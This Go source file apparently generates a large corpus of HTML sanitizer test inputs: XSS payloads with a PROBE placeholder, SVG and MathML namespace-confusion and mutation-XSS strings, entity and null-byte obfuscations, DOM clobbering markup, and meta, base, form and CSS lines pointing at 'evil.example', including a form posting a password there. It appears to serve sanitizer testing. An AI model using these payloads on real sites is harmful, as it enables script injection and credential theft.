package payloads

import "strings"

const img = `<img src=x: onerror=PROBE>`

func scripts(w *writer) {
	for _, s := range []string{
		`<script>PROBE</script>`, `<SCRIPT>PROBE</SCRIPT>`, `<script/x>PROBE</script>`, "<script\n>PROBE</script\t>", `<script type=module>PROBE</script>`, `<script type="text/javascript">PROBE</script>`,
		`<script type=>PROBE</script>`, `<scr<script>ipt>PROBE</scr</script>ipt>`, `<script>PROBE//</script`, `<script><!--` + "\n" + `PROBE</script>`, `<script>/*<!--*/PROBE</script>`, `<<script>PROBE</script>`,
		`<script src="data:text/javascript,PROBE"></script>`, `<script type=importmap>{}</script><script>PROBE</script>`, `<p><script>PROBE</script></p>`, `<table><script>PROBE</script></table>`,
		`<iframe srcdoc="<script>PROBE</script>"></iframe>`, `<iframe srcdoc="&lt;script&gt;PROBE&lt;/script&gt;"></iframe>`, `<object type=text/html data="data:text/html,<script>PROBE</script>"></object>`,
		`<embed type=text/html src="data:text/html,<script>PROBE</script>">`, `<svg><script>PROBE</script></svg>`, `<svg><script href="data:text/javascript,PROBE"></script></svg>`, `<math><script>PROBE</script></math>`,
	} {
		w.add(s)
	}
}

// foreignContent writes scripts and handlers inside SVG and MathML, where
// HTML's parsing rules change.
func foreignContent(w *writer) {
	hosts := []string{"CORE", "<svg>CORE</svg>", "<svg><g>CORE</g></svg>", "<svg><a>CORE</a></svg>", "<svg><defs>CORE</defs></svg>", "<svg><foreignObject width=99 height=99>CORE</foreignObject></svg>",
		"<svg><desc>CORE</desc></svg>", "<svg><title>CORE</title></svg>", "<math>CORE</math>", "<math><mtext>CORE</mtext></math>", "<math><mi>CORE</mi></math>", "<math><annotation-xml encoding=text/html>CORE</annotation-xml></math>",
		"<math><annotation-xml encoding=application/xhtml+xml>CORE</annotation-xml></math>", "<math><annotation-xml><svg>CORE</svg></annotation-xml></math>", "<math><mtext><svg>CORE</svg></mtext></math>", "<svg><math>CORE</math></svg>"}
	cores := []string{img, "<script>PROBE</script>", "<svg onload=PROBE></svg>", "<animate onbegin=PROBE attributeName=x dur=1s>", "<set onbegin=PROBE attributeName=x>", "<animate attributeName=href values=javascript:PROBE />",
		`<a><animate attributeName=href values=javascript:PROBE dur=1s fill=freeze /><text y=20>x</text></a>`, `<use href="data:image/svg+xml,&lt;svg id=x onload=PROBE xmlns='http://www.w3.org/2000/svg'/&gt;#x"/>`,
		"<image href=x: onerror=PROBE />", "<style>*{}</style>" + img, "<style><img src='</style>" + img + "'>", "<mglyph>" + img + "</mglyph>", "<malignmark>" + img + "</malignmark>", "<handler xmlns:ev=x>PROBE</handler>",
		"<iframe srcdoc='&lt;script>PROBE&lt;/script>'></iframe>", "<p>" + img, "<font color=x>" + img, "<maction actiontype=statusline xlink:href=javascript:PROBE>x</maction>"}
	for _, host := range hosts {
		for _, core := range cores {
			w.add(strings.Replace(host, "CORE", core, 1))
		}
	}
}

func rawTextElements() []string {
	return []string{"style", "title", "noscript", "xmp", "iframe", "noembed", "noframes", "textarea", "script", "plaintext", "listing", "template", "select"}
}

// namespaceConfusion writes HTML that is text when it is parsed first and
// markup when the result is parsed again. It puts raw text elements into
// elements that change the namespace, and the end tags of the raw text into
// attributes.
func namespaceConfusion(w *writer) {
	wrappers := []string{
		"<svg>", "<math>", "<svg><desc>", "<svg><title>", "<svg></p>", "<math><mtext>", "<math><mi>", "<math><annotation-xml encoding=text/html>", "<svg><foreignObject>",
		"<math><mtext><table><mglyph>", "<form><math><mtext></form><form><mglyph>", "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext>", "<table><svg>", "<select><svg>", "<svg><p>", "<noscript><svg>", "<b><svg><b>",
		"<svg></br>", "<math></p>", "<a><svg><a>", "<table><caption><svg>", "<svg><svg><desc>", "<template><svg>", "<svg><font color=x>",
	}
	for _, wrapper := range wrappers {
		for _, raw := range rawTextElements() {
			w.addf(`%s<%s><a title="</%s>%s">`, wrapper, raw, raw, img)
			w.addf(`%s<%s><!--</%s>%s-->`, wrapper, raw, raw, img)
			w.addf(`%s<%s><![CDATA[</%s>%s]]>`, wrapper, raw, raw, img)
		}
	}
}

func rawText(w *writer) {
	for _, raw := range rawTextElements() {
		w.addf(`<%s>%s</%s>`, raw, img, raw)
		w.addf(`<%s><p title="</%s>%s"></%s>`, raw, raw, img, raw)
		w.addf(`<%s></%s >%s`, raw, raw, img)
		w.addf(`<%s></%s/x>%s`, raw, raw, img)
		w.addf(`<%s>&lt;/%s&gt;&lt;img src=x: onerror=PROBE&gt;</%s>`, raw, raw, raw)
		w.addf(`<%s><%s></%s>%s`, raw, raw, raw, img)
		w.addf(`<table><%s></table>%s</%s>`, raw, img, raw)
		w.addf(`<p><%s><!--</%s>%s--></p>`, raw, raw, img)
		w.addf(`</%s>%s<%s>`, raw, img, raw)
	}
}

func templatesAndSelect(w *writer) {
	hosts := []string{"<template>CORE</template>", "<template shadowrootmode=open>CORE</template>", "<div><template shadowrootmode=open>CORE</template></div>", "<select>CORE</select>", "<select><option>CORE</select>", "<select><template>CORE</template></select>",
		"<select><optgroup label=x>CORE</optgroup></select>", "<datalist>CORE</datalist>", "<table><template>CORE</template></table>", "<table><colgroup><template>CORE</template>", "<frameset>CORE</frameset>", "<noframes>CORE</noframes>",
		"<svg><template>CORE</template></svg>", "<template><template>CORE</template></template>", "<object>CORE</object>", "<button>CORE</button>", "<caption>CORE", "<table>CORE</table>", "<table><tr>CORE</table>", "<table><tr><td>CORE</table>"}
	cores := []string{img, "<script>PROBE</script>", "<svg onload=PROBE>", "<style></select>" + img + "</style>", "<iframe srcdoc='<script>PROBE</script>'>", "<input autofocus onfocus=PROBE>", "<textarea></select>" + img}
	for _, host := range hosts {
		for _, core := range cores {
			w.add(strings.Replace(host, "CORE", core, 1))
		}
	}
}

func comments(w *writer) {
	for _, open := range []string{"<!--", "<!", "<?", "<!-", "</ ", "<![CDATA[", "<!doctype ", "<!--!", "<!-->", "<!--->", "<%", "<!--[if IE]>", "<![endif]-->", "<?xml ", "<!ENTITY "} {
		for _, end := range []string{"-->", ">", "--!>", "->", "]]>", "?>", "", "--", "--!", "%>", "<!-->", "--\n>"} {
			w.add(open + end + img)
			w.add(open + img + end)
		}
	}
}

func entities(w *writer) {
	for _, s := range []string{
		`&lt;img src=x: onerror=PROBE&gt;`, `&amp;lt;img src=x: onerror=PROBE&amp;gt;`, `&#60;img src=x: onerror=PROBE&#62;`, `&#x3c;img src=x: onerror=PROBE>`, `<p title="&quot;&gt;&lt;img src=x: onerror=PROBE&gt;">x</p>`,
		`<img src=x: onerror="&#116;op.fired&lpar;0&rpar;">`, `<img src=x: onerror=&#80;ROBE>`, "<im\x00g src=x: onerror=PROBE>", "<img src=x: on\x00error=PROBE>", "<img\x00 src=x: onerror=PROBE>", "\x00<img src=x: onerror=PROBE>",
		"<img src=x:\x00 onerror=PROBE>", "<scr\x00ipt>PROBE</script>", "<script>\x00PROBE</script>", "<\x00script>PROBE</script>", "<p>\xff<img src=x: onerror=PROBE>", "<p title=\"\xc0\">\"><img src=x: onerror=PROBE>", "\xef\xbb\xbf<img src=x: onerror=PROBE>",
		"\xfe\xff<img src=x: onerror=PROBE>", "+ADw-script+AD4-PROBE+ADw-/script+AD4-", "<img src=x: onerror=PROBE\u2028>", "<img\u00a0src=x: onerror=PROBE>", "<img\u3000src=x: onerror=PROBE>", "\uff1cimg src=x: onerror=PROBE\uff1e",
		"<\u0131mg src=x: onerror=PROBE>", "<\u017fcript>PROBE</\u017fcript>", "<\u017fvg onload=PROBE>", "<a href=\"java\u017fcript:PROBE\">x</a>", "<img src=x: on\u212ferror=PROBE>", "&lt\x00;img src=x: onerror=PROBE>",
	} {
		w.add(s)
		w.add("<div>" + s + "</div>")
		w.add("<pre>" + s + "</pre>")
	}
}

// nesting writes payloads inside nested elements. The deepest have a few more
// levels than HTML parsers allow.
func nesting(w *writer) {
	for _, tag := range []string{"div", "b", "span", "table><tr><td", "ul><li", "blockquote", "svg><g", "math><mrow", "form", "p", "a", "font x=1", "h1", "button", "ruby><rt"} {
		for _, depth := range []int{2, 32, 255, 400, 509, 513, 600} {
			w.add(strings.Repeat("<"+tag+">", depth) + img)
		}
	}
}

func clobbering(w *writer) {
	names := []string{"document", "body", "cookie", "location", "attributes", "childNodes", "firstChild", "parentNode", "nodeName", "tagName", "innerHTML", "textContent", "getAttribute", "setAttribute", "removeAttribute",
		"createElement", "querySelector", "getElementById", "documentElement", "head", "forms", "currentScript", "__proto__", "constructor", "prototype", "hasOwnProperty", "toString", "valueOf", "chrome", "browser", "self", "top", "parent", "window", "length", "item", "namedItem", "ownerDocument", "isConnected", "nodeType"}
	for _, name := range names {
		w.addf(`<a id="%s"></a><a id="%s" name="x" href="javascript:PROBE">x</a>`, name, name)
		w.addf(`<form id="%s" name="%s"><input name="attributes"><input id="innerHTML">x</form>`, name, name)
		w.addf(`<img name="%s" id="%s" src=/p.png>`, name, name)
		w.addf(`<iframe name="%s" srcdoc="x"></iframe>`, name)
		w.addf(`<p id="%s" class="%s" data-%s="x" slot="%s" is="%s" part="%s">x</p>`, name, name, strings.ToLower(name), name, name, name)
	}
}

func declarations(w *writer) {
	for _, s := range []string{
		`<meta http-equiv=refresh content="0;url=https://evil.example/">`, `<meta http-equiv="Content-Security-Policy" content="default-src *">`, `<meta name=referrer content=unsafe-url>`, `<meta charset=utf-7>`, `<meta http-equiv=set-cookie content="a=b">`,
		`<base href="https://evil.example/">`, `<base target=_top>`, `<link rel=stylesheet href="https://evil.example/x.css">`, `<link rel=import href="https://evil.example/x">`, `<link rel=preload as=image href="https://evil.example/x">`,
		`<link rel=dns-prefetch href="//evil.example">`, `<link rel=prerender href="//evil.example">`, `<link rel=manifest href="//evil.example">`, `<link rel=icon href="//evil.example">`, `<script type=speculationrules>{"prerender":[{"urls":["//evil.example"]}]}</script>`,
		`<form action="https://evil.example/"><input name=password type=password><button>x</button></form>`, `<input form=f formaction=//evil.example>`, `<html manifest=//evil.example>`, `<body background=//evil.example/x>`, `<a href=https://example.org ping=//evil.example>x</a>`,
		`<img src=//evil.example/x referrerpolicy=unsafe-url>`, `<iframe src=//evil.example></iframe>`, `<video src=//evil.example autoplay></video>`, `<object data=//evil.example></object>`, `<a href=https://example.org target=_blank rel=opener>x</a>`, `<dialog open>x</dialog>`,
		`<div popover=auto>x</div>`, `<div contenteditable>x</div>`, `<div tabindex=1 accesskey=x>x</div>`, `<a download=x.exe href=//evil.example>x</a>`, `<img src=/p.png ismap usemap=#x>`, `<bdo dir=rtl>x</bdo>`,
	} {
		w.add(s)
		w.add("<head>" + s + "</head>")
		w.add("<noscript>" + s + "</noscript>")
		w.add("<table>" + s + "</table>")
	}
}

func styles(w *writer) {
	for _, css := range []string{
		"background:url(//evil.example/x)", "background:url(javascript:PROBE)", "width:expression(PROBE)", "behavior:url(//evil.example/x)", "-moz-binding:url(//evil.example/x)", "position:fixed;inset:0;z-index:9", "@import '//evil.example/x'",
		"list-style:url(//evil.example/x)", "content:url(//evil.example/x)", "cursor:url(//evil.example/x),auto", "font-family:x;src:url(//evil.example/x)", "background:\\75rl(//evil.example/x)", "background:image-set('//evil.example/x' 1x)", "--x:url(//evil.example/x)", "animation:x 1s", "pointer-events:none;opacity:0",
	} {
		w.addf(`<p style="%s">x</p>`, css)
		w.addf(`<style>p{%s}</style><p>x</p>`, css)
		w.addf(`<svg><style>*{%s}</style><rect style="%s"/></svg>`, css, css)
		w.addf(`<td style='%s'>x`, css)
		w.addf(`<img style="%s" src=/p.png>`, css)
		w.addf(`<link rel=stylesheet href="data:text/css,p{%s}"><p>x</p>`, css)
	}
}
